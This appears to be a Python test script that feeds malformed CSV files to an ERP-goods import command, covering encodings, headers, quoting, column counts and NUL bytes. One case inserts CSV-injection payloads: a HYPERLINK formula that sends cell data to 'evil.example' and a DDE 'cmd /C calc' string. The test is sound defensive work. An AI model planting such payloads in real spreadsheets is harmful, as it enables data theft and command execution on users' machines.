#!/usr/bin/env python3
# t3: encodings, headers, quoting, formula cells, column counts in `import csv`
import csv, io, sys, os
sys.path.insert(0, os.path.dirname(__file__)); from h import *
G = list(csv.reader(open("goods-utf8.csv", encoding="utf-8", newline="")))
U8 = open("goods-utf8.csv", "rb").read()
def case(label, data, mapping="goods-u8.toml", name="t3.csv", extra=[]):
    open(name, "wb").write(data); L = fresh("T3")
    b = state(L); res = run(["import", "csv", L, name, "--mapping", mapping] + extra); a = state(L); show(label, res, b, a, 3)
    return L, res
def rows(rr):
    s = io.StringIO(); csv.writer(s, lineterminator="\r\n").writerows(rr); return s.getvalue().encode("utf-8")
case("E1 UTF-8 with BOM, mapping utf-8", b"\xef\xbb\xbf" + U8)
case("E2 UTF-8 with BOM, mapping gb18030", b"\xef\xbb\xbf" + U8, "goods.toml")
case("E3 UTF-16LE with BOM, mapping utf-8", U8.decode().encode("utf-16"))
case("E4 UTF-16LE with BOM, mapping gb18030", U8.decode().encode("utf-16"), "goods.toml")
case("E5 GB18030 file, mapping utf-8 (mojibake?)", open("goods-2026-10.csv", "rb").read())
case("E6 UTF-8 file, mapping gb18030 (mojibake?)", U8, "goods.toml")
open("t3_big5.toml", "w", encoding="utf-8").write(open("goods-u8.toml", encoding="utf-8").read().replace('encoding = "utf-8"', 'encoding = "big5"'))
case("E7 GB18030 file, mapping big5 (wrong legacy encoding)", open("goods-2026-10.csv", "rb").read(), "t3_big5.toml")
open("t3_u16.toml", "w", encoding="utf-8").write(open("goods-u8.toml", encoding="utf-8").read().replace('encoding = "utf-8"', 'encoding = "utf-16le"'))
case("E8 UTF-16LE without BOM, mapping utf-16le", U8.decode().encode("utf-16-le"), "t3_u16.toml")
open("t3_repl.toml", "w", encoding="utf-8").write(open("goods-u8.toml", encoding="utf-8").read().replace('encoding = "utf-8"', 'encoding = "replacement"'))
case("E9 mapping encoding = \"replacement\" (a WHATWG label)", U8, "t3_repl.toml")
open("t3_xud.toml", "w", encoding="utf-8").write(open("goods-u8.toml", encoding="utf-8").read().replace('encoding = "utf-8"', 'encoding = "x-user-defined"'))
case("E10 mapping encoding = \"x-user-defined\"", U8, "t3_xud.toml")
# headers
h = list(G[0]); h[h.index("数量")] = "数量\u3000"; case("H1 header `数量` padded with an ideographic space", rows([h] + G[1:]))
h = list(G[0]); h[h.index("往来单位名称")] = "数量 "; case("H2 an unmapped column renamed to ` 数量 `: two 数量 after trimming", rows([h] + G[1:]))
h = list(G[0]); h[h.index("数量")] = "\ufeff数量"; case("H3 header `数量` with a BOM in front (second file concatenated)", rows([h] + G[1:]))
h = list(G[0]); h[h.index("数量")] = "数量\u200b"; case("H4 header `数量` with a zero-width space", rows([h] + G[1:]))
case("H5 header row repeated in the middle (two exports concatenated)", rows(G[:6] + [G[0]] + G[6:]))
# column counts
rr = [list(r) for r in G]; rr[3] = rr[3] + ["x"]; case("C1 one extra cell on line 4", rows(rr))
rr = [list(r) for r in G]; rr[3] = rr[3][:-3]; case("C2 line 4 missing its last 3 (unmapped/empty-ish) cells", rows(rr))
rr = [list(r) for r in G]; rr[3] = rr[3][:-1]; case("C3 line 4 missing its last cell", rows(rr))
# quoting
rr = [list(r) for r in G]; rr[3][rr[0].index("批号")] = "2609150231\n"; case("Q1 批号 with a trailing newline inside quotes", rows(rr))
rr = [list(r) for r in G]; rr[11][rr[0].index("收货地址")] = "浙江省\r\n杭州市"; L, _ = case("Q2 收货地址 with CRLF inside quotes (dispatch line 12)", rows(rr))
d = U8.replace(b"MK-PS-2026100900031", b'MK-PS-"2026100900031"', 1); case("Q3 a bare quote inside an unquoted field", d)
d = U8.replace(b"\r\n", b"\r"); case("Q4 CR-only line ends (old Mac Excel)", d)
d = U8.replace(b"\r\n", b"\n\r\n"); case("Q5 blank line after every row", d)
# formula injection: accepted into text fields?
rr = [list(r) for r in G]
for r in rr[1:]:
    if r[0] == "销售出库单": r[rr[0].index("收货人")] = '=HYPERLINK("http://evil.example/?"&A1,"点击")'; r[rr[0].index("收货地址")] = "@SUM(1+1)*cmd|' /C calc'!A0"
L, _ = case("F1 formula-looking 收货人/收货地址 (CSV injection payloads)", rows(rr))
if _[0] == 0:
    run(["report", L, "-o", "t3_f1.html"]); run(["check", L, "--format", "sarif", "-o", "t3_f1.sarif"])
    print("  stored consignee:", [e["data"].get("consignee") for e in payloads(L) if e["kind"] == "dispatch"][:1])
# NUL / controls in the group_by column
rr = [list(r) for r in G]; rr[3][1] = rr[4][1] = "SH2026101000001\x00"; case("N1 document number with a NUL (csv)", rows(rr))
# xlsx given to import csv, csv given a mapping with delimiter tab
case("X1 the xlsx given to import csv", open("/work/atk29/samples/erp/goods-2026-10.xlsx", "rb").read(), "goods.toml")
# --lang zh error
case("Z1 --lang zh error for a bad quantity", U8.replace(b",2400,2400,0,", b",2400\xe7\xae\xb1,2400,0,", 1), extra=["--lang", "zh"])
